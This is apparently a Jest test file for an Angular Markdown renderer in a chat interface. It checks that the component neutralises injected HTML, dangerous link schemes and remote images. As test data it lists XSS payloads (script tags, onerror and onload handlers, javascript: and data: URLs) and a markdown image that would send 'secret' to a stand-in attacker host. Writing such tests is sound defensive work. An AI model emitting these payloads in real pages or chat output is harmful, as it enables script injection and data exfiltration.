import type { ComponentFixture } from '@angular/core/testing';
import { TestBed } from '@angular/core/testing';
import { blocksOf } from './blocks';
import { Markdown } from './markdown';

describe('Markdown', () => {
  let fixture: ComponentFixture<Markdown>;

  function render(text: string): HTMLElement {
    fixture ??= TestBed.createComponent(Markdown);
    fixture.componentRef.setInput('text', text);
    fixture.detectChanges();
    return fixture.nativeElement as HTMLElement;
  }

  beforeEach(() => {
    fixture = undefined as never;
    // Angular says so when it strips something, which is what these tests are about.
    jest.spyOn(console, 'warn').mockImplementation(() => undefined);
  });

  afterEach(() => jest.restoreAllMocks());

  test.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<svg onload=alert(1)><use href="data:image/svg+xml,x"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '<form action=/api/v1/session><button>Go</button></form>',
    '<style>body{display:none}</style>',
    '<div style="position:fixed;inset:0">cover</div>',
    '```mermaid\nclick A "javascript:alert(1)"\n```',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    '- <img src=x onerror=alert(1)>',
    '> <script>alert(1)</script>',
    '# <svg onload=alert(1)>',
  ])('S26: %j is shown as text', (attack) => {
    const shown = render(attack);
    expect(
      shown.querySelector(
        'script, img, svg:not(soai-copy svg), math, iframe, form, style, [onerror], [onclick], [onload], [style]',
      ),
    ).toBeNull();
    expect(shown.querySelector('a[href^="javascript:"]')).toBeNull();
  });

  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](/api/v1/session)',
    '[x][y]\n\n[y]: javascript:alert(1)',
  ])('S26: %j is no link', (text) => {
    const shown = render(text);
    expect(shown.querySelector('a')).toBeNull();
    expect(shown.textContent).toContain('x');
  });

  test('S26: links leave without telling where from', () => {
    const link = render('[docs](https://example.org/a?b=1&c=2 "A \\"title\\"")').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.org/a?b=1&c=2');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('title')).toBe('A "title"');
  });

  test('S27: a picture is a link, never loaded', () => {
    const shown = render('![secret plans](http://attacker.test/?q=secret)');
    expect(shown.querySelector('img')).toBeNull();
    expect(shown.querySelector('a')?.textContent).toBe('secret plans (picture, not loaded)');
  });

  test('code blocks keep their text as it was and can be copied, inside lists too', () => {
    const shown = render('1. Run\n   ```bash\n   echo "<b>"\n   ```\n\n```ts\nlet a = 1;\n```');
    const blocks = [...shown.querySelectorAll('soai-code-block')];
    expect(blocks.map((block) => block.querySelector('code')?.textContent)).toEqual(['echo "<b>"', 'let a = 1;']);
    expect(blocks.every((block) => block.querySelector('button[aria-label="Copy code"]'))).toBe(true);
  });

  test('while text streams in, finished blocks are left alone', () => {
    const first = render('One paragraph.\n\nTw').querySelector('.prose');
    const again = render('One paragraph.\n\nTwo, longer.').querySelector('.prose');
    expect(again).toBe(first);
    expect(again?.firstChild).toBe(first?.firstChild);
  });

  test('headings stay below the page’s own, without gaps', () => {
    const shown = render('# One\n\n#### Four');
    expect([...shown.querySelectorAll('h1, h2, h3, h4')].map((each) => each.outerHTML)).toEqual([
      '<h3 class="level-1">One</h3>',
      '<h3 class="level-4">Four</h3>',
    ]);
  });

  test('ordered lists go on counting where the text does', () => {
    expect(render('3. three\n4. four').querySelector('ol')?.getAttribute('start')).toBe('3');
  });

  test('task lists show their boxes beside their words, in tight and in loose lists', () => {
    for (const text of ['- [x] done\n- [ ] open', '- [x] done\n\n- [ ] open']) {
      const items = [...render(text).querySelectorAll('li .prose')].map((line) => line.textContent.trim());
      expect(items).toEqual(['☑ done', '☐ open']);
    }
  });

  test('nesting without end neither hangs nor breaks the page', () => {
    const depth = (blocks: ReturnType<typeof blocksOf>): number =>
      1 + Math.max(0, ...blocks.map((block) => (block.kind === 'quote' ? depth(block.blocks) : 0)));
    expect(depth(blocksOf('> '.repeat(500) + 'deep'))).toBeLessThan(20);
  });
});
